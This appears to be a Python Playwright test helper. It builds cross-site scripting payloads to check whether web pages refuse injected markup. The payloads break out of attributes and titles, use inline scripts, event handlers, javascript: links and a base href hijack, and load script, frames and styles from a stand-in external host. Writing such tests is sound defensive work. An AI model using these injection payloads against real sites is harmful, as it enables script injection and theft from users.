"""Markup that would run, or load something from elsewhere, in a page that doesn't refuse it."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass

from playwright.sync_api import BrowserContext, Page, Route

from tests.support.browser import QUIET, Browser

ELSEWHERE = "http://elsewhere.test"
_RAN = "document.documentElement.setAttribute('data-ran-{}','')"


def attack_at(place: str) -> str:
    """Markup that ends an attribute first, or the page's title, if it is in one."""
    ran = f"{place}-{{}}".format
    return f"""\
"></title>\
<script>{_RAN.format(ran("inline"))}</script>\
<img alt="x" src="data:," onerror="{_RAN.format(ran("handler"))}">\
<svg onload="{_RAN.format(ran("figure"))}"></svg>\
<a class="attack" href="javascript:{_RAN.format(ran("link"))};void 0">link</a>\
<script src="{ELSEWHERE}/{place}/script.js"></script>\
<img alt="x" src="{ELSEWHERE}/{place}/image.svg">\
<link rel="stylesheet" href="{ELSEWHERE}/{place}/style.css">\
<iframe src="{ELSEWHERE}/{place}/frame.html"></iframe>\
<base href="{ELSEWHERE}/">"""


RAN = frozenset(["inline", "handler", "figure", "link", "script"])
"""All that an attack runs where nothing refuses it."""
LOADED = frozenset(["script.js", "image.svg", "style.css", "frame.html"])
"""And all that it loads; relative addresses after it lead elsewhere, too."""


@dataclass(frozen=True)
class Attacked:
    """What came of attacks: what ran, what was loaded from elsewhere, and what the console says."""

    ran: set[str]
    """`place-inline`, for what is in `RAN`."""
    loaded: set[str]
    """`place/script.js`, for what is in `LOADED`."""
    errors: list[str]

    def at(self, place: str) -> tuple[set[str], set[str]]:
        """What ran and what was loaded by the attack at one place."""
        ran = {name.removeprefix(f"{place}-") for name in self.ran if name.startswith(f"{place}-")}
        loaded = {path for path in self.loaded if path.startswith(f"{place}/")}
        return ran, {path.removeprefix(f"{place}/") for path in loaded}


def attack(browser: Browser, addresses: Sequence[str]) -> list[Attacked]:
    """Visit pages, side by side, and follow the attacks' links in each."""
    context = browser.open_tab().context
    visits = [_open(page, address) for page, address in _tabs(context, addresses)]
    visits[-1][0].wait_for_timeout(QUIET)
    for page, _, _ in visits:
        page.evaluate("document.querySelectorAll('.attack').forEach(link => link.click())")
    visits[-1][0].wait_for_timeout(QUIET)
    found = []
    for page, loaded, errors in visits:
        names = page.evaluate("document.documentElement.getAttributeNames()")
        ran = {name.removeprefix("data-ran-") for name in names if name.startswith("data-ran-")}
        found.append(Attacked(ran, loaded, errors))
    context.close()
    return found


def _tabs(context: BrowserContext, addresses: Sequence[str]) -> Iterator[tuple[Page, str]]:
    """A tab for each address; the first one is there."""
    for number, address in enumerate(addresses):
        yield context.new_page() if number else context.pages[0], address


def _open(page: Page, address: str) -> tuple[Page, set[str], list[str]]:
    """Open a page; return what it will have loaded from elsewhere, and its errors."""
    loaded: set[str] = set()
    errors: list[str] = []

    def answer(route: Route) -> None:
        path = route.request.url.removeprefix(f"{ELSEWHERE}/")
        loaded.add(path)
        place, _, name = path.partition("/")
        route.fulfill(body=_RAN.format(f"{place}-script") if name == "script.js" else "")

    page.route(f"{ELSEWHERE}/**", answer)
    page.on("console", lambda message: errors.append(message.text))
    page.goto(address, wait_until="commit")
    return page, loaded, errors
